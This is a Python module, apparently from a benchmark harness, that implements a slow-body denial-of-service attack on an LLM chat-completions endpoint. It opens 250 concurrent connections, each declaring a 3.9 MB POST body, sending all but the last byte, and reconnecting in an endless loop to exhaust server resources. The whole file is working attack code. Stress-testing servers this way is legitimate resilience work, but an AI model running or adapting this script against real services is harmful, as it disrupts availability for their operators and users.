"""Bodies that arrive up to their last bytes, and then no further."""

from __future__ import annotations

import asyncio
from urllib.parse import urlsplit

from bench.harness.target import Target

BODY_BYTES = 3_900_000
PAUSE_S = 0.2


async def attack(target: Target, bodies: int = 250) -> None:
    async with asyncio.TaskGroup() as group:
        for _ in range(bodies):
            group.create_task(_stall(target.url))


async def _stall(url: str) -> None:
    head = f"POST /v1/chat/completions HTTP/1.1\r\nhost: localhost\r\ncontent-length: {BODY_BYTES}\r\n\r\n"
    while True:
        reader, writer = await asyncio.open_connection(urlsplit(url).hostname, urlsplit(url).port)
        try:
            writer.write(head.encode() + b"x" * (BODY_BYTES - 1))
            await reader.readuntil(b"\r\n\r\n")
        except (OSError, asyncio.IncompleteReadError):
            pass  # refused, and hung up
        finally:
            writer.transport.abort()
        await asyncio.sleep(PAUSE_S)
